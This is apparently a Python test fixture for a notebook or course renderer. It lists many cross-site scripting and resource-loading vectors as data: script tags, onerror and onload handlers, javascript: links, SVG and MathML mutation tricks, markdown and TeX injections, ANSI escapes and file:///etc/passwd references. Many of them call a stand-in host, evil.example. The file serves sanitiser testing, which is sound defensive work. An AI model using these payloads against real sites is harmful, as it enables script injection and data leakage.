"""Vectors that try to run a script, load something or leave the page: in outputs, markdown, names and comments. None
may do anything.

Each calls `ran("its name")` if it gets to run (`tests.support.browser` listens), asks for something at
`https://evil.example`, or opens a dialog.
"""

from __future__ import annotations

import base64
from typing import Any

EVIL = "https://evil.example"


def _svg(inside: str, attributes: str = "") -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" {attributes}>{inside}</svg>'


def _url(text: str, kind: str = "text/html") -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


# Name → HTML that a student could print, write into markdown, or put where text is asked for.
HTML = {
    "script": "<script>ran('script')</script>",
    "script_upper": "<SCRIPT>ran('script_upper')</SCRIPT>",
    "script_slash": "<script/x>ran('script_slash')</script>",
    "script_nested": "<scr<script>ipt>ran('script_nested')</scr</script>ipt>",
    "script_unclosed": "<script>ran('script_unclosed')//",
    "script_remote": f"<script src='{EVIL}/x.js'></script>",
    "script_module": f"<script type='module'>import '{EVIL}/m.js'; ran('script_module')</script>",
    "script_json": "<script type='application/json'></script><script>ran('script_json')</script>",
    "import_map": f'<script type=\'importmap\'>{{"imports": {{"a": "{EVIL}/a.js"}}}}</script>',
    "img_onerror": "<img src=x onerror=\"ran('img_onerror')\">",
    "img_onload": f"<img src='{_url('<svg/>', 'image/png')}' onload=\"ran('img_onload')\">",
    "img_remote": f"<img src='{EVIL}/pixel.png' srcset='{EVIL}/2x.png 2x' alt='x'>",
    "img_lowsrc": f"<img lowsrc='{EVIL}/low.png' dynsrc='{EVIL}/dyn.png'>",
    "img_quotes": '<img """><script>ran(\'img_quotes\')</script>">',
    "picture": f"<picture><source srcset='{EVIL}/p.png'><img></picture>",
    "svg_onload": _svg("", "onload=\"ran('svg_onload')\""),
    "svg_script": _svg("<script>ran('svg_script')</script>"),
    "svg_script_href": _svg(f"<script href='{EVIL}/s.js'/>"),
    "svg_animate": _svg("<animate onbegin=\"ran('svg_animate')\" attributeName='x' dur='1s'/>"),
    "svg_set": _svg("<a><set attributeName='href' to=\"javascript:ran('svg_set')\"/><text x='1' y='5'>x</text></a>"),
    "svg_foreign": _svg(
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror=\"ran('svg_foreign')\"/></body></foreignObject>"
    ),
    "svg_use": _svg(f"<use href='{EVIL}/s.svg#x'/><image href='{EVIL}/i.png'/><feImage href='{EVIL}/f.png'/>"),
    "svg_style": _svg(f"<style>@import '{EVIL}/s.css'; path {{ fill: url({EVIL}/f.svg#x) }}</style><path d='M0 0h9'/>"),
    "svg_link": _svg("<a xlink:href=\"javascript:ran('svg_link')\"><text x='1' y='5'>press</text></a>"),
    "math_href": "<math><mi href=\"javascript:ran('math_href')\">x</mi><maction actiontype='statusline' xlink:href='javascript:ran(1)'>y</maction></math>",
    "math_mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran('math_mutation')&gt;\">",
    "math_annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=\"ran('math_annotation')\"></annotation-xml></math>",
    "noscript_mutation": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript_mutation')>\">",
    "template": "<template><script>ran('template')</script></template><div><template shadowrootmode=open><script>ran('shadow')</script></template></div>",
    "comment_mutation": "<!--><img src=x onerror=\"ran('comment_mutation')\">-->",
    "cdata": "<![CDATA[<img src=x onerror=\"ran('cdata')\">]]>",
    "textarea": "<textarea></textarea><img src=x onerror=\"ran('textarea')\"></textarea>",
    "plaintext": "<xmp><img src=x onerror=ran('xmp')></xmp><noembed><img src=x onerror=ran('noembed')></noembed>",
    "close_all": "</div></section></main></body></html><script>ran('close_all')</script>",
    "close_pre": "</code></pre></style></title><script>ran('close_pre')</script>",
    "iframe": "<iframe src=\"javascript:ran('iframe')\"></iframe>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.ran('iframe_srcdoc')</script>\"></iframe>",
    "iframe_data": f"<iframe src='{_url('<script>alert(1)</script>')}'></iframe>",
    "object": f"<object data='{_url('<script>alert(2)</script>')}'></object><embed src='{EVIL}/e.swf'>",
    "link_javascript": "<a href=\"javascript:ran('link_javascript')\">press</a>",
    "link_tab": "<a href=\"java\tscr\nipt:ran('link_tab')\">press</a>",
    "link_entity": "<a href=\"&#106;avascript&colon;ran('link_entity')\">press</a>",
    "link_control": "<a href=\"\x01javascript:ran('link_control')\">press</a>",
    "link_vbscript": "<a href=\"vbscript:ran('link_vbscript')\">press</a>",
    "link_data": f"<a href='{_url('<script>alert(3)</script>')}' target=_top>press</a>",
    "link_ping": f"<a href='#x' ping='{EVIL}/ping'>press</a>",
    "form": f"<form action='{EVIL}/form' id=f><input autofocus onfocus=\"ran('form')\"><button formaction=\"javascript:ran('formaction')\">press</button></form>",
    "input_image": f"<input type=image src='{EVIL}/input.png' onerror=\"ran('input_image')\">",
    "body_onload": "<body onload=\"ran('body_onload')\" background='https://evil.example/b.png'>",
    "details_toggle": "<details open ontoggle=\"ran('details_toggle')\"><summary>x</summary></details>",
    "media": f"<video src='{EVIL}/v.mp4' poster='{EVIL}/p.png' onerror=\"ran('video')\"></video><audio src='{EVIL}/a.mp3' onerror=\"ran('audio')\"></audio>",
    "marquee": "<marquee onstart=\"ran('marquee')\">x</marquee><bgsound src='https://evil.example/b.mid'>",
    "mouse": "<b onmouseover=\"ran('mouse')\" onclick=\"ran('click')\" onfocus=\"ran('focus')\" tabindex=0 contenteditable>here</b>",
    "style_tag": f"<style>@import url({EVIL}/s.css); body {{ background: url({EVIL}/b.png) }} @font-face {{ font-family: a; src: url({EVIL}/f) }}</style>",
    "style_attribute": f'<p style="position:fixed;inset:0;background:url({EVIL}/s.png);list-style-image:url({EVIL}/l.png)">cover</p>',
    "style_animation": "<style>@keyframes x {}</style><b style='animation:x' onanimationstart=\"ran('style_animation')\">x</b>",
    "stylesheet": f"<link rel=stylesheet href='{EVIL}/s.css'><link rel=prefetch href='{EVIL}/p'><link rel=dns-prefetch href='{EVIL}'>",
    "meta_refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "meta_policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>ran('meta_policy')</script>",
    "base": f"<base href='{EVIL}/'><img src='x.png'>",
    "frameset": f"<frameset onload=\"ran('frameset')\"><frame src='{EVIL}/frame'></frameset>",
    "clobber": "<form id=main name=querySelectorAll><img id=kinds name=body><a id=document href='x'></a></form>",
    "popover": "<button popovertarget=x>p</button><div popover id=x onbeforetoggle=\"ran('popover')\">x</div>",
    "custom_element": "<x-y is=script onload=\"ran('custom')\" src='https://evil.example/c'></x-y>",
    "null_byte": "<scr\x00ipt>ran('null_byte')</scr\x00ipt><img\x00src=x onerror=\"ran('null_img')\">",
    "wide_quotes": "<img src=`x` onerror=`ran('wide_quotes')`>",
    "dialogs": '<img src=x onerror="alert(4)"><svg onload="confirm(5)"><iframe onload="prompt(6)">',
}
# Markdown and formulas, besides the HTML above.
MARKDOWN = {
    "md_link": "[press](javascript:ran('md_link'))",
    "md_link_entity": "[press](&#x6A;avascript:ran('md_link_entity'))",
    "md_reference": "[press][r]\n\n[r]: javascript:ran('md_reference)",
    "md_autolink": "<javascript:ran('md_autolink')>",
    "md_image": f"![x]({EVIL}/md.png)",
    "md_image_quote": "![x](x\"onerror=\"ran('md_image_quote'))",
    "md_image_title": "![x](data:image/png;base64,AA 'a\"onload=\"ran(1)')",
    "md_title": "[press](https://example.org 'x\" onmouseover=\"ran(`md_title`)')",
    "md_fence": "```html\"><script>ran('md_fence')</script>\n</code></pre><script>ran('md_fence')</script>\n```",
    "md_mermaid": "```mermaid\ngraph TD; a[\"<img src=x onerror=ran('md_mermaid')>\"]\n```",
    "md_attachment": "![x](attachment:missing.png) ![y](attachment:evil.png)",
    "md_table": "| a |\n|---|\n| <img src=x onerror=\"ran('md_table')\"> |",
    "md_file": "![x](file:///etc/passwd) ![y](/etc/passwd)",
    "tex_href": r"$\href{javascript:ran('tex_href')}{x}$",
    "tex_style": r"$\style{background:url(https://evil.example/t.png)}{x}$",
    "tex_html": "$$</math><script>ran('tex_html')</script>$$",
    "tex_text": r"$\text{<img src=x onerror=ran('tex_text')>}$",
    "tex_class": r"$\class{x\" onclick=\"ran('tex_class')}{y}$ $\require{action}\mathtip{x}{y}$",
    "tex_macro": r"\begin{equation}\def\a{\a}\a \unicode{x3c}script\end{equation}",
    "tex_deep": "$" + "{" * 500 + "x" + "}" * 500 + "$",
}
ATTACHMENTS = {
    "evil.png": {
        "text/html": base64.b64encode(b"<script>alert(7)</script>").decode(),
        "image/svg+xml": 'x" onerror="ran(1)',
    }
}
# Printed text with colour codes.
ANSI = {
    "ansi_markup": "\x1b[31m<script>ran('ansi_markup')</script>\x1b[0m",
    "ansi_parameter": "\x1b[38;2;1;2;3\"><script>ran('ansi_parameter')</script>m",
    "ansi_link": "\x1b]8;;javascript:ran('ansi_link')\x1b\\press\x1b]8;;\x1b\\",
    "ansi_huge": "\x1b[38;5;99999999999999999999m<img src=x onerror=\"ran('ansi_huge')\">\x1b[m",
    "ansi_split": "<scr\x1b[1mipt>ran('ansi_split')</scr\x1b[0mipt>",
    "ansi_carriage": "safe\r<img src=x onerror=\"ran('ansi_carriage')\">\x08\x7f\x9b31m",
}
# Names and comments: text wherever they stand.
TEXT = {
    "text_markup": "<b>Robert</b><script>ran('text_markup')</script>",
    "text_attribute": "x\" onmouseover=\"ran('text_attribute')\" y='",
    "text_template": "{{ 7 * 7 }}{% raw %}${ran('text_template')}",
    "text_title": "</title><img src=x onerror=\"ran('text_title')\">",
    "text_script": "</script><script>ran('text_script')</script>",
}
# A student's folder is named as they like, within what a file system takes.
NAMES = ("<img src=x onerror=ran('name')>", "a\" onmouseover=\"ran('name_quote')", "'{{ 7*7 }}' & <b>co")
# Media types besides the usual ones, and usual ones with something else in them.
DATA: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": "ran('javascript')", "text/plain": "js"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>ran('widget')</script>"},
        "text/plain": "widget",
    },
    "svg_data": {"image/svg+xml": _svg("<script>ran('svg_data')</script>", "onload=\"ran('svg_data')\"")},
    "png_quote": {"image/png": "AAAA\" onerror=\"ran('png_quote')"},
    "png_html": {"image/png": base64.b64encode(b"<script>alert(8)</script>").decode()},
    "latex": {"text/latex": r"$\href{javascript:ran('latex')}{x}$ <img src=x onerror=ran('latex2')>"},
    "mermaid": {"text/vnd.mermaid": "graph TD; a[\"<img src=x onerror=ran('mermaid')>\"]", "text/plain": "x"},
    "unknown": {"text/x-evil": "<script>ran('unknown')</script>"},
    "pdf": {"application/pdf": "JVBERi0="},
}


def forged_figures(figure: str) -> dict[str, str]:
    """One of `cnnlab`'s figures, as HTML, with something else where each of its parts was."""
    start, code = figure.index("<script>"), figure.index("<script type=")
    stage = figure.index('<div class="cnnlab-stage">') + len('<div class="cnnlab-stage">')
    evil_svg = _svg(
        "<script>ran('figure_svg')</script><image href='https://evil.example/i.png'/><path d='M0 0h9'/>",
        "onload=\"ran('figure_svg')\"",
    )
    return {
        "figure_script": figure[:start] + "<script>ran('figure_script')</script></figure>",
        "figure_style": figure.replace("<style>", f"<style>@import '{EVIL}/figure.css';", 1),
        "figure_data": figure[:code]
        + '<script type="application/json">{"kind":"constructor","steps":[]}</script><script>ran(\'figure_data\')</script></figure>',
        "figure_nan": figure[:code]
        + '<script type="application/json">{"kind":"ruler","values":{"n":1e99}}</script><script></script></figure>',
        "figure_svg": figure[:stage]
        + f'<img alt="x" src="data:image/svg+xml;charset=utf-8,{evil_svg.replace(chr(34), "&quot;").replace("#", "%23")}">'
        + figure[figure.index('</div><div class="cnnlab-controls">') :],
        "figure_stage": figure[:stage]
        + "<img src=x onerror=\"ran('figure_stage')\">"
        + figure[figure.index('</div><div class="cnnlab-controls">') :],
        "figure_alt": figure.replace(
            'aria-label="', "aria-label=\"&quot; onmouseover=&quot;ran('figure_alt')&quot; ", 1
        ),
        "figure_say": figure.replace(
            '<p class="cnnlab-say">', '<p class="cnnlab-say">&lt;script&gt;ran(1)&lt;/script&gt;', 1
        ),
        "figure_twice": figure + "<script>ran('figure_twice')</script>",
        "figure_before": "<img src=x onerror=\"ran('figure_before')\">" + figure,
    }
